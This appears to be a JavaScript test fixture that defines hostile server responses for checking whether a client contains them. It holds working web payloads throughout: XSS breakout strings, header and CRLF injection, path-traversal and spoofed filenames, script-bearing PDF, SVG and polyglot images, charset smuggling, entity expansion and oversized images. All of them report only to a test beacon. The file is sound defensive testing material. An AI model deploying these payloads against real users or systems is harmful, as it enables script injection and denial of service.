// What a hostile site answers: each answer tries to act wherever it is shown. Whatever it can reach it
// reaches at the beacon that it is given, {url, host}.

/** acts is a script that shows that it has run. */
export const acts = ({ url }) =>
  `window.HOSTILE=1;try{top.HOSTILE=1}catch(e){};new Image().src='${url}/script';` +
  `try{fetch('${url}/fetch',{mode:'no-cors'})}catch(e){};try{alert('hostile')}catch(e){}`;

/** breaks are texts that break out of where others put them, if these are careless. */
export const breaks = (b) => [
  `<script>${acts(b)}</script>`,
  `"><img src="${b.url}/img" onerror="window.HOSTILE=1">`,
  `'><svg/onload=window.HOSTILE=1>`,
  `</title></script></style></textarea><script src=${b.url}/s></script>`,
  `javascript:window.HOSTILE=1`,
  `{{constructor.constructor('window.HOSTILE=1')()}}`,
  `\${window.HOSTILE=1}`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">window.HOSTILE=1</script>`,
  `%0d%0aSet-Cookie:a=b`,
  `\u202etxt.exe\u2066\u200b\ufeff`,
  `\u0000\u001b[31m`,
  `__proto__`,
];

const entities = (text) => text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);

/** title is hostile, and still one that a browser takes for a title. */
export const title = (b) =>
  entities(
    `\u202e<script>window.HOSTILE=1</script><img src=${b.url}/title ` +
      'onerror=window.HOSTILE=1>"\'>${7*7}{{7*7}}',
  );

const reaching = ({ url, host }) => `<link rel=dns-prefetch href="//${host}"><link rel=preconnect href="${url}">
<link rel=stylesheet href="${url}/css"><link rel=preload as=script href="${url}/preload">
<link rel=icon href="${url}/icon">
<link rel=prefetch href="${url}/prefetch"><link rel=modulepreload href="${url}/module">
<link rel=manifest href="${url}/m">
<style>@import url(${url}/import);@font-face{font-family:x;src:url(${url}/font)}
body{background:url(${url}/bg);font-family:x}
</style><img src="${url}/img" srcset="${url}/2x 2x"><video src="${url}/video" poster="${url}/poster"></video>
<audio src="${url}/audio"></audio><iframe src="${url}/frame"></iframe><object data="${url}/object"></object>
<embed src="${url}/embed"><input type=image src="${url}/input"><a href="${url}/a" ping="${url}/ping">a</a>
<svg><image href="${url}/svg"/><use href="${url}/use#x"/></svg><form action="${url}/form"><button>go</button></form>`;

export const html = (b, more = '') => `<!doctype html><html><head><title>${title(b)}</title>
<script>${acts(b)}</script>${reaching(b)}</head><body onload="window.HOSTILE=1"
 onclick="location='${b.url}/click'">${breaks(b).slice(0, 4).join('\n')}${more}
<iframe srcdoc="&lt;script&gt;top.HOSTILE=1&lt;/script&gt;"></iframe></body></html>`;

const svg = (b, size = '') => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" ${size} onload="window.HOSTILE=1"><script>${acts(b).replaceAll(
   '&',
   '&amp;',
 )}</script><style>@import url(${b.url}/import);*{fill:url(${b.url}/fill#x)}</style>
<image href="${b.url}/image" width="9" height="9"/><use xlink:href="${b.url}/use#x"/><text>&b;</text>
<a href="javascript:top.HOSTILE=1"><rect width="9999" height="9999"/></a><foreignObject width="99" height="99">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="${b.url}/foreign"></iframe><img xmlns="http://www.w3.org/1999/xhtml"
 src="${b.url}/foreignimg"/></foreignObject><set attributeName="href" to="javascript:top.HOSTILE=1"/></svg>`;

const xml = (b) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${b.url}/xsl"?>
<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${acts(b).replaceAll('&', '&amp;')}</h:script>
<h:img src="${b.url}/img"/></x>`;

const pdf = (b) =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);app.launchURL("${
    b.url
  }/pdf"))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
  `3 0 obj<</Type/Page/Parent 2 0 R/AA<</O<</S/URI` +
  `/URI(${b.url}/open)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 999 999]` +
  `/A<</S/URI/URI(${b.url}/link)>>>>]>>endobj\n` +
  'trailer<</Root 1 0 R>>\n%%EOF<script>window.HOSTILE=1</script>';

const mhtml = (b) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"; type="text/html"\r\n\r\n--x\r\n` +
  `Content-Type: text/html\r\nContent-Location: ${b.url}/mht\r\n\r\n${html(b)}\r\n--x--\r\n`;

// A PNG that says of itself that it is 100,000 pixels wide and high; what it is made of is not there.
const huge = () => {
  const head = Buffer.from('89504e470d0a1a0a0000000d49484452000186a0000186a00806000000', 'hex');
  return Buffer.concat([head, Buffer.alloc(4), Buffer.from('0000000049444154', 'hex'), Buffer.alloc(2000)]);
};

const gif = (b) =>
  Buffer.concat([
    Buffer.from('GIF89a/*', 'latin1'),
    Buffer.alloc(9, 1),
    Buffer.from(`*/=1;${acts(b)}//<script>${acts(b)}</script>`, 'latin1'),
  ]);

const jpeg = (b) => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(html(b))]);

const deep = (b) =>
  `{"__proto__":{"x":1},"constructor":${JSON.stringify(breaks(b))},"toString":null,"deep":${'['.repeat(
    3000,
  )}${JSON.stringify(html(b))}${']'.repeat(3000)}}`;

const utf7 = (b) => `+ADw-script+AD4-window.HOSTILE+AD0-1+ADw-/script+AD4-${html(b)}`;
const utf16 = (b) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html(b), 'utf16le')]);
const events = (b) => `id: 1\ndata: {"kind":"capture","url":"${b.url}/"}\n\nevent: x\ndata: </script>\n\n`;

const named = (name) => [
  `Content-Disposition: attachment; filename="${name}"; filename*=UTF-8''..%2f..%2f%E2%80%AEfdp.exe`,
];

const fields = (b) =>
  [
    `X-<b>: 1`,
    `X-A: ${breaks(b).slice(0, 6).join(' ')}`,
    `Refresh: 1;url=${b.url}/refresh`,
    `Link: <${b.url}/link>; rel=preload; as=script, <//${b.host}>; rel=dns-prefetch`,
    `Location: javascript:alert(1)`,
    `Content-Security-Policy: default-src *; report-uri ${b.url}/report`,
    `SourceMap: ${b.url}/map`,
    `Report-To: {"group":"default","max_age":99,"endpoints":[{"url":"${b.url}/nel"}]}`,
    'Clear-Site-Data: "*"',
    `Set-Cookie: "><script>window.HOSTILE=1</script>=1; Domain=127.0.0.1`,
    'Access-Control-Allow-Origin: *',
    `X-Frame-Options: ALLOWALL`,
    `ETag: "<script>window.HOSTILE=1</script>"`,
  ].filter((field) => !field.startsWith('X-<'));

/**
 * answers are all of them: name; type; body(beacon); what else is in its head; path behind its name;
 * `acts`: opened as a document in a browser it reaches its beacon, which shows that it would.
 */
export const answers = [
  { name: 'html', type: 'text/html', body: html, page: true, acts: true },
  {
    name: 'fields',
    type: 'text/html; charset="><script>window.HOSTILE=1</script>',
    body: html,
    fields,
    page: true,
  },
  {
    name: 'reason',
    status: '200 <script>window.HOSTILE=1</script>"><svg/onload=window.HOSTILE=1>',
    type: 'text/html',
    body: html,
    page: true,
    acts: true,
  },
  {
    name: 'refused',
    status: '403 <img src=x onerror=window.HOSTILE=1>',
    type: 'text/html',
    body: html,
    page: true,
  },
  {
    name: 'path',
    path: '/"><svg/onload=window.HOSTILE=1>/\'`{{7*7}}${7*7}/../%3Cscript%3E/%E2%80%AE%00',
    type: 'text/html',
    body: html,
    page: true,
  },
  {
    name: 'query',
    path: '/?"><script>window.HOSTILE=1</script>=<img/src=x/onerror=window.HOSTILE=1>&__proto__=1%0d%0a',
    type: 'text/html',
    body: html,
    page: true,
  },
  {
    name: 'fragment',
    path: '/%23/exchange/x%3Fa=#/search?url=javascript:window.HOSTILE=1',
    type: 'text/html',
    body: html,
  },
  { name: 'long', path: `/${'%3Cscript%3E'.repeat(4000)}`, type: 'text/html', body: html, page: true },
  { name: 'type', type: '"><script>window.HOSTILE=1</script>', body: html },
  { name: 'notype', body: html, acts: true },
  { name: 'plain', type: 'text/plain', body: html },
  { name: 'sniffed', type: 'application/x-unknown', body: html },
  { name: 'utf7', type: 'text/html; charset=utf-7', body: utf7, page: true, acts: true },
  { name: 'utf16', type: 'text/html', body: utf16, page: true, acts: true },
  {
    name: 'xhtml',
    type: 'application/xhtml+xml',
    body: (b) => xml(b).replace(/<\?xml-.*\?>/, ''),
    page: true,
    acts: true,
  },
  { name: 'xml', type: 'text/xml', body: xml },
  { name: 'svg', type: 'image/svg+xml', body: svg, acts: true },
  { name: 'svghuge', type: 'image/svg+xml', body: (b) => svg(b, 'width="999999999" height="999999999"') },
  { name: 'svgpage', type: 'image/svg+xml; charset=utf-8', body: svg, page: true, acts: true },
  { name: 'svghtml', type: 'text/html', body: svg, page: true, acts: true },
  { name: 'gif', type: 'image/gif', body: gif },
  { name: 'gifscript', type: 'text/javascript', body: gif },
  { name: 'jpeg', type: 'image/jpeg', body: jpeg },
  { name: 'png', type: 'image/png', body: huge },
  { name: 'pngwrong', type: 'image/png', body: html },
  { name: 'pdf', type: 'application/pdf', body: pdf, page: true },
  { name: 'pdfuntyped', body: pdf },
  { name: 'json', type: 'application/json', body: deep },
  { name: 'jsonhtml', type: 'application/json', body: html },
  { name: 'mhtml', type: 'multipart/related; boundary="x"; type="text/html"', body: mhtml },
  {
    name: 'replace',
    type: 'multipart/x-mixed-replace; boundary=x',
    body: (b) => `--x\r\nContent-Type: text/html\r\n\r\n${html(b)}\r\n--x--`,
  },
  { name: 'events', type: 'text/event-stream', body: events },
  { name: 'script', type: 'text/javascript', body: acts },
  { name: 'style', type: 'text/css', body: (b) => `@import url(${b.url}/css);*{background:url(${b.url}/bg)}` },
  {
    name: 'download',
    type: 'text/html',
    body: html,
    page: true,
    fields: () => named('../../../etc/<script>window.HOSTILE=1</script>\\\u202e.html'),
  },
  {
    name: 'frames',
    type: 'text/html',
    page: true,
    acts: true,
    body: (b) =>
      html(
        b,
        '<iframe sandbox="allow-scripts" srcdoc="' +
          "&lt;script&gt;parent.postMessage(1,'*')&lt;/script&gt;\"></iframe>",
      ),
  },
  {
    name: 'empty',
    status: '204 </script><script>window.HOSTILE=1</script>',
    type: 'text/html',
    body: () => '',
  },
];
